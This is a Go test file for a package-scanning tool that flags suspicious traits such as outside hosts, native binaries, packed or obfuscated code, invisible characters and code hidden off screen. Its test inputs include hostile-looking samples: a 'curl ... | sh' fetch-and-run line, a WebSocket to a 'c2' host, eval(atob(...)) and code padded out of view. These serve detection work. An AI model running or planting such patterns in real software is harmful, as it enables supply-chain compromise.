package signal_test

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/hullmark/hullmark/internal/evidence"
	"github.com/hullmark/hullmark/internal/registry/signal"
)

// scan is one file seen by a scanner of its own.
func scan(t testing.TB, name string, content string) *evidence.Signals {
	t.Helper()
	s := signal.NewScanner()
	s.Begin(name)
	if _, err := io.Copy(s, strings.NewReader(content)); err != nil {
		t.Fatal(err)
	}
	s.End()
	return s.Signals()
}

func whats(marks []evidence.Mark) string {
	var out []string
	for _, m := range marks {
		out = append(out, m.What)
	}
	return strings.Join(out, " ")
}

func TestHostsAreFoundWhereCodeNamesThem(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, content, want string }{
		{"an address", `fetch("https://Evil.Example.com/path?q=1")`, "evil.example.com"},
		{"with a user and a port", `x = "http://user:pw@drop.example.net:8080/"`, "drop.example.net"},
		{"another scheme", `new WebSocket("wss://c2.example.org")`, "c2.example.org"},
		{"a number", `connect("203.0.113.7", 443)`, "203.0.113.7"},
		{"a number without quotes", `curl 203.0.113.7:8080/x | sh`, "203.0.113.7"},
		{"a name in quotes", `dns.resolve('t.m-kosche.com')`, "t.m-kosche.com"},
		{"a name in quotes with a path", "`webhook.site/abc`", "webhook.site"},
		{"a template", "`https://${name}.example.com/`", ""},
		{"members of objects are none", `process.env.HOME + a.b.c + "index.js"`, ""},
		{"versions are none", `version = "1.2.3"; other = "v1.2.3.4x"`, ""},
		{"this machine is none", `http://localhost:3000 http://127.0.0.1/ 0.0.0.0`, ""},
		{"nothing after the scheme", `"https://"`, ""},
		{"two, each once", `a="https://b.example.com/1"; b="https://a.example.com"; c="https://b.example.com/2"`, "a.example.com b.example.com"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := whats(scan(t, "index.js", c.content).Hosts); got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}

func TestWhatNothingRunsIsNotLookedAt(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"README.md", "package/LICENSE", "index.d.ts", "dist/index.js.map", "CHANGELOG"} {
		if got := scan(t, name, `https://example.com`); len(got.Hosts) > 0 {
			t.Errorf("%s: %v", name, got.Hosts)
		}
	}
}

func TestProgramsAreKnownByTheirFirstBytes(t *testing.T) {
	t.Parallel()
	pe := make([]byte, 128)
	copy(pe, "MZ")
	pe[60] = 64
	copy(pe[64:], "PE\x00\x00")
	for _, c := range []struct{ content, want string }{
		{"\x7fELF\x02\x01\x01", "elf"},
		{string(pe), "pe"},
		{"MZ is how this text begins, and it goes on for more than sixty-four bytes of it", ""},
		{"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "mach-o"},
		{"\xca\xfe\xba\xbe\x00\x00\x00\x02", "mach-o"},
		{"\xca\xfe\xba\xbe\x00\x00\x00\x3d", ""}, // a Java class
		{"\x00asm\x01\x00\x00\x00", "wasm"},
		{"#!/bin/sh", ""},
		{"", ""},
	} {
		if got := whats(scan(t, "bin/x", c.content).Programs); got != c.want {
			t.Errorf("%.10q: %q, want %q", c.content, got, c.want)
		}
	}
}

func TestEachHeuristicSpeaksOfWhatItIsNamedAfter(t *testing.T) {
	t.Parallel()
	line := "const a = require('a');\n"
	for _, c := range []struct{ name, content, want string }{
		{"code as people write it", strings.Repeat(line, 2000), ""},
		{"one long line", strings.Repeat("var a = 1; ", 1000), "long-line"},
		{"packed text", "x = '" + strings.Repeat("QUJD", 1500) + "'", "long-line packed-text"},
		{"packed text over several windows", strings.Repeat(line, 3000) + "x = '" + strings.Repeat("QUJD", 40_000) + "'", "long-line packed-text"},
		{"escapes", strings.Repeat(`s += "\x41\x42"`+"\n", 200), "escaped-text"},
		{"some escapes in much code", strings.Repeat(`s += "\x41\x42"`+"\n", 200) + strings.Repeat(line, 1000), ""},
		{"names of an obfuscator", strings.Repeat("_0x1a2b(_0x3c4d);\n", 40), "generated-names"},
		{"characters that no editor shows", "a = '" + strings.Repeat("\U000e0141", 30) + "'", "invisible-characters"},
		{"an emoji", strings.Repeat("❤️ ", 50), ""},
		{"code off the screen", "ok()" + strings.Repeat(" ", 500) + ";evil()", "off-screen"},
		{"blanks at the end of a line", "ok()" + strings.Repeat(" ", 500) + "\nok()", ""},
		{"code out of base64", "eval(atob(x))", "decoded-code"},
		{"the same in Python", "exec(base64.b64decode(x))", "decoded-code"},
		{"decoding alone", "Buffer.from(x, 'base64')", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := whats(scan(t, "index.js", c.content).Opaque); got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
	if got := whats(scan(t, "data.json", strings.Repeat("QUJD", 5000)).Opaque); got != "" {
		t.Errorf("data is not code: %q", got)
	}
}

func TestItDoesNotMatterHowTheBytesComeIn(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&b, "fetch('https://host%d.example.com/'); ping('203.0.%d.%d'); look('name%d.example.io');%s\n", i, i/250, i%250, i, strings.Repeat("x", i%97))
	}
	whole := scan(t, "index.js", b.String())
	s := signal.NewScanner()
	s.Begin("index.js")
	if _, err := io.Copy(s, iotest.HalfReader(iotest.DataErrReader(strings.NewReader(b.String())))); err != nil {
		t.Fatal(err)
	}
	s.End()
	if got := s.Signals(); fmt.Sprint(got) != fmt.Sprint(whole) {
		t.Errorf("%d hosts in pieces, %d at once", len(got.Hosts), len(whole.Hosts))
	}
	for _, host := range whole.Hosts {
		if strings.HasSuffix(host.What, ".example.com") && !strings.HasPrefix(host.What, "host") {
			t.Errorf("%q was cut", host.What)
		}
	}
	if len(whole.Hosts) != 2000 || whole.More < 9_000 {
		t.Errorf("%d hosts and %d more", len(whole.Hosts), whole.More)
	}
}

func FuzzScanner(f *testing.F) {
	f.Add("index.js", []byte("fetch('https://example.com/a'); eval(atob('eA=='))"), 7)
	f.Add("bin/x", []byte("\x7fELF"), 1)
	f.Add("x", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), 3)
	f.Add("a.py", []byte("://x.1.2.3.4.\xef\xb8"), 2)
	f.Fuzz(func(t *testing.T, name string, content []byte, step int) {
		content = bytes.Repeat(content, 1+min(len(content), 3)*20)
		one, pieces := signal.NewScanner(), signal.NewScanner()
		one.Begin(name)
		_, _ = one.Write(content)
		one.End()
		pieces.Begin(name)
		step = max(1, step%5000)
		for rest := content; len(rest) > 0; rest = rest[min(len(rest), step):] {
			_, _ = pieces.Write(rest[:min(len(rest), step)])
		}
		pieces.End()
		if a, b := fmt.Sprint(*one.Signals()), fmt.Sprint(*pieces.Signals()); a != b {
			t.Errorf("at once:   %s\nin pieces: %s", a, b)
		}
	})
}

func BenchmarkScanner(b *testing.B) {
	code := []byte(strings.Repeat("export function f(a, b) { return a.b.c + this.x['y'] }  // see https://example.com/docs\n", 3000))
	b.SetBytes(int64(len(code)))
	s := signal.NewScanner()
	for b.Loop() {
		s.Begin("index.js")
		_, _ = s.Write(code)
		s.End()
	}
}
